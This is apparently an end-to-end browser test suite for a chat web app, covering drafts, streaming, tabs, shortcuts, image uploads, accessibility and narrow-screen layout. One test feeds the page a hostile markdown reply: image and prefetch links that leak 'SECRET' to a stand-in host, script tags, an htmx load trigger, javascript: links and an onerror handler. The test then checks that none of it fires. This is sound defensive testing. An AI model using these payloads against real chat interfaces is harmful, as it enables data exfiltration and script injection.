"""The chat's page itself in a real browser: its box, its tabs, its looks, what it lets nobody do."""

import pytest
from playwright.sync_api import expect

from conch.chat.nacre_chat import BOXES
from conch.models import Preferences, Turn
from tests.e2e.chat_site import *  # noqa: F403  fixtures are found by name
from tests.e2e.chat_site import DESK, PHONE, a_chat, a_turn, say, shown, two_codex, violations

pytestmark = pytest.mark.django_db(transaction=True)


def answer(page, number=-1):
    return page.locator(".turn").nth(number).locator(".msg:not(.you) .md").first


def test_what_was_typed_stays_until_the_server_has_said_yes(browser, address, world):
    """A reload, a session that ended, a message over the limit: nothing typed is lost."""
    world.account("codex").key.replies("Hello.", times=3)
    with shown(browser, address, world.person) as page:
        box = page.get_by_label("Message", exact=True)
        box.fill("A long thought")
        page.reload()
        expect(box).to_have_value("A long thought")
        cookies = page.context.cookies()
        page.context.clear_cookies(name="conch_session")
        page.keyboard.press("Tab")
        box.press("Enter")
        expect(page.locator("#problem")).to_contain_text("Sign in again")
        expect(box).to_have_value("A long thought")
        page.context.add_cookies(cookies)
        box.press("Enter")
        expect(answer(page)).to_contain_text("Hello.")
        expect(box).to_have_value("")
        page.reload()
        expect(box).to_have_value("")
        box.fill("x" * 200_001)
        box.press("Enter")
        expect(page.locator("#problem")).to_contain_text("200,000 are allowed")
        assert len(box.input_value()) == 200_001
    assert Turn.objects.count() == 1


def test_a_message_that_began_a_chat_is_no_draft_any_more_and_what_was_typed_on_is_the_chats(browser, address, world):
    world.account("codex").key.replies("Hello.", times=3)
    with shown(browser, address, world.person, "/?new") as page:
        box = page.get_by_label("Message", exact=True)
        page.route("**/begin", lambda route: (box.fill("typed on"), route.continue_()))
        say(page, "Begin")
        expect(answer(page)).to_contain_text("Hello.")
        expect(box).to_have_value("typed on")
        page.goto("/?new")
        expect(box).to_have_value("")
        assert page.said == []


def test_enter_that_ends_a_word_of_an_input_method_sends_nothing(browser, address, world):
    world.account("codex").key.replies("はい。")
    with shown(browser, address, world.person) as page:
        box = page.get_by_label("Message", exact=True)
        box.fill("日本")
        for how in ("isComposing: true", "keyCode: 229"):
            event = f"new KeyboardEvent('keydown', {{key: 'Enter', bubbles: true, cancelable: true, {how}}})"
            page.evaluate(f"document.querySelector('#say').dispatchEvent({event})")
        box.press("Shift+Enter")
        expect(box).to_have_value("日本\n")
        assert Turn.objects.count() == 0
        box.press("Enter")
        expect(answer(page)).to_contain_text("はい。")


HOSTILE = """![x](https://evil.example.test/p.png?leak=SECRET)

<img src='https://evil.example.test/?q=SECRET'><link rel=prefetch href=https://evil.example.test/>

![x][1]

<script>document.title = "stolen"</script><b hx-get="/settings/you" hx-trigger="load">b</b>

[click](javascript:alert(1)) [data](data:text/html,x)

```html
<img src=x onerror="document.title='stolen'">
```

[1]: https://evil.example.test/p?leak=SECRET
"""


def test_an_answer_makes_the_browser_ask_nobody_else(browser, address, world):
    """SEC-02: while it streams and when it is there; the page stays under its policy."""
    world.account("codex").key.replies(HOSTILE, pieces=60)
    with shown(browser, address, world.person) as page:
        say(page, "Show me")
        expect(page.locator(".turn .acts [aria-label='Copy reply']")).to_be_visible()
        assert [url for url in page.asked if not url.startswith(address)] == []
        assert not any("/settings/you" in url for url in page.asked)
        assert "stolen" not in page.title()
        assert page.locator(".turn img").count() == 0
        assert page.said == []


ROWS = "".join(f"| {row} | **x{row}** | `c` | {row}.5 | some words | y |\n" for row in range(400))
FAMILY = "👩\u200d👩\u200d👧\u200d👦"
AWKWARD = {
    "a huge table": (f"| a | b | c | d | e | f |\n|-|-|-|-|-|-|\n{ROWS}\nThe end.", "The end."),
    "an unclosed fence": (f"Before\n\n```html\n<script>document.title = 'x'</script>\n{'x' * 300}", "</script>"),
    "unclosed marks": ("**bold and `code and [a link](https://x.example", "a link"),
    "what turns its direction": ("שלום **עולם**?\n\n`echo \u202egnp.exe`\n\nThe word is مرحبا. The end.", "The end."),
    "emoji in pieces": (f"{FAMILY} 🇳🇴 e\u0301 {FAMILY} The end.", f"{FAMILY} 🇳🇴 e\u0301 {FAMILY} The end."),
}


@pytest.mark.parametrize("kind", AWKWARD)
def test_an_awkward_answer_leaves_the_page_usable_and_true(browser, address, world, kind):
    """INP-01, INP-03: while it arrives in small pieces and once it is there, also on a narrow screen."""
    text, end = AWKWARD[kind]
    account = world.account("codex")
    account.key.replies(text, pieces=min(len(text), 400), delay=0.001).replies("Fine.", times=3)
    with shown(browser, address, world.person, viewport=PHONE) as page:
        say(page, "Show me")
        box = page.get_by_label("Message", exact=True)
        box.fill("typed meanwhile")
        expect(page.locator(".turn .acts [aria-label='Copy reply']")).to_be_visible()
        expect(answer(page)).to_contain_text(end)
        expect(box).to_have_value("typed meanwhile")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert page.evaluate("document.querySelector('.log').scrollWidth <= innerWidth")
        assert "\ufffd" not in answer(page).inner_text()
        box.press("Enter")
        expect(page.locator(".turn")).to_have_count(2)
        expect(answer(page)).to_contain_text("Fine.")
        assert page.said == []


def test_it_works_without_script(browser, address, world):
    """Forms post, answers are there after a reload, Switch back is a button."""
    first, second = two_codex(world)
    first.key.refuses("usage_limit", times=3)
    second.key.replies("An answer.", times=3)
    with shown(browser, address, world.person, script=False) as page:
        page.get_by_label("Message", exact=True).fill("Hello?")
        page.get_by_role("button", name="Send").click()
        expect(page.locator(".turn")).to_have_count(1)
        for _ in range(20):
            if page.get_by_text("An answer.").count():
                break
            page.wait_for_timeout(500)
            page.reload()
        page.get_by_role("button", name="Switch back").click()
        expect(page.locator(".line.calm")).to_contain_text("this chat waits for it")
        assert "/c/" in page.url


def test_two_tabs_on_one_chat_agree(browser, address, world):
    world.account("codex").key.replies("For both.", times=3)
    chat = a_chat(world.person)
    with shown(browser, address, world.person, f"/c/{chat.pk}") as page:
        other = page.context.new_page()
        other.goto(f"{address}/c/{chat.pk}")
        say(page, "Hello tabs")
        expect(answer(page)).to_contain_text("For both.")
        expect(other.locator(".turn")).to_have_count(1)
        expect(answer(other)).to_contain_text("For both.")


def test_a_tab_that_was_hidden_takes_the_answer_up_again(browser, address, world):
    """STR-02: it lets its stream go; shown again it has all of it, nothing twice, and no request was made again."""
    account = world.account("codex")
    account.key.replies("One.\n\nTwo.\n\nThree.\n\nFour.", pieces=8, hold_after=4)
    hide = "Object.defineProperty(document, 'hidden', {value: %s, configurable: true});"
    hide += "document.dispatchEvent(new Event('visibilitychange'))"
    with shown(browser, address, world.person) as page:
        say(page, "Count")
        expect(answer(page)).to_contain_text("One.")
        page.evaluate(hide % "true")
        account.key.release()
        page.wait_for_timeout(500)
        page.evaluate(hide % "false")
        expect(answer(page)).to_contain_text("Four.")
        expect(page.locator("[aria-busy=true]")).to_have_count(0)
        assert answer(page).inner_text().split() == ["One.", "Two.", "Three.", "Four."]
    assert len(world.simulator.requests(account.key.secret)) == 1


def test_shortcuts_do_what_their_list_says(browser, address, world):
    chat = a_chat(world.person)
    a_turn(chat)
    with shown(browser, address, world.person, f"/c/{chat.pk}") as page:
        page.keyboard.press("Control+/")
        expect(page.get_by_role("dialog", name="Keyboard")).to_be_visible()
        assert violations(page) == "[]"
        page.keyboard.press("Escape")
        page.keyboard.press("Control+k")
        expect(page.get_by_label("Search chats")).to_be_focused()
        page.keyboard.press("Shift+Escape")
        expect(page.get_by_label("Message", exact=True)).to_be_focused()
        page.keyboard.press("Control+Shift+O")
        expect(page.get_by_role("heading", level=1)).to_have_text("New chat")
    Preferences.objects.update(shortcuts=False)
    with shown(browser, address, world.person, f"/c/{chat.pk}") as page:
        page.keyboard.press("Control+/")
        page.wait_for_timeout(100)
        expect(page.get_by_role("dialog", name="Keyboard")).to_have_count(0)


def test_a_chat_is_found_as_one_types_and_deleted_with_a_way_back(browser, address, world):
    a_turn(a_chat(world.person, title="Letter"), "to the landlord")
    chat = a_chat(world.person, title="Trip to Lofoten")
    with shown(browser, address, world.person, f"/c/{chat.pk}") as page:
        page.get_by_label("Search chats").fill("landlord")
        expect(page.locator("#chats a")).to_have_count(1)
        page.locator(".more").click()
        page.get_by_role("button", name="Delete this chat").click()
        expect(page.get_by_text("Deleted “Trip to Lofoten”.")).to_be_visible()
        page.get_by_role("button", name="Undo").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Trip to Lofoten")


def test_a_picture_goes_with_a_message_and_is_shown_from_our_own_address(browser, address, world, tmp_path):
    from PIL import Image

    path = tmp_path / "red.png"
    Image.new("RGB", (8, 8), "red").save(path)
    world.account("codex").key.replies("Red.")
    with shown(browser, address, world.person) as page:
        page.get_by_label("Attach images").set_input_files(path)
        expect(page.locator("#files")).to_have_text("red.png")
        say(page, "What colour?")
        expect(answer(page)).to_contain_text("Red.")
        expect(page.locator(".pics img")).to_have_count(1)
        assert page.evaluate("document.querySelector('.pics img').naturalWidth") == 8
        (tmp_path / "not.png").write_text("no picture")
        page.get_by_label("Attach images").set_input_files(tmp_path / "not.png")
        say(page, "And this?")
        expect(page.locator("#problem")).to_contain_text("An image is a PNG, JPEG, WebP or GIF file.")
        expect(page.get_by_label("Message", exact=True)).to_have_value("And this?")


@pytest.mark.parametrize("look", ["light", "dark"])
@pytest.mark.parametrize("size", [DESK, PHONE], ids=["desk", "phone"])
def test_every_part_in_every_state_is_accessible(browser, address, world, look, size):
    """copy.md 6: axe over all components and the chat, with what opens."""
    world.person.is_staff = True
    world.person.save()
    world.account("codex")
    chat = a_chat(world.person)
    a_turn(
        chat, "Why?", "# Because\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n\n![p](https://x.example/p)"
    )
    options = {"viewport": size, "color_scheme": look, "has_touch": size is PHONE}
    with shown(browser, address, world.person, "/nacre", **options) as page:
        assert violations(page) == "[]"
        page.get_by_role("button", name="Try again with another account").click()
        expect(page.get_by_role("dialog", name="Try again with")).to_be_visible()
        assert violations(page) == "[]"
        for state in BOXES[1:]:
            page.goto(f"/nacre?box={state}")
            assert violations(page, "#box") == "[]", state
        for path in (f"/c/{chat.pk}", "/?new"):
            page.goto(path)
            page.locator("#pick").click()  # also what the picker shows, open over the rest
            assert violations(page) == "[]", path
        assert page.said == []


def test_nothing_scrolls_sideways_on_the_narrowest_screen(browser, address, world):
    world.person.is_staff = True
    world.person.save()
    two_codex(world)
    chat = a_chat(world.person, title="A title that is rather long for a screen as narrow as this one")
    a_turn(
        chat,
        "w" * 400,
        f"{'v' * 400}\n\n`{'c' * 300}`\n\n```py\n{'x' * 400}\n```\n\n|{'a|' * 30}\n|{'-|' * 30}\n|{'1|' * 30}\n",
    )
    with shown(browser, address, world.person, viewport={"width": 320, "height": 640}, has_touch=True) as page:
        for path in (f"/c/{chat.pk}", "/nacre", "/?new"):
            page.goto(path)
            assert page.evaluate("document.documentElement.scrollWidth") <= 320, path
            wide = page.evaluate("[...document.querySelectorAll('#scroll, .dock, .log')].map(e => e.scrollWidth)")
            assert all(width <= 320 for width in wide), (path, wide)
        small = page.evaluate(
            "[...document.querySelectorAll('button, .btn, .icon')].filter(e => e.checkVisibility())"
            ".map(e => [e.outerHTML.slice(0, 80), e.getBoundingClientRect().height]).filter(e => e[1] < 24)"
        )
        assert small == []
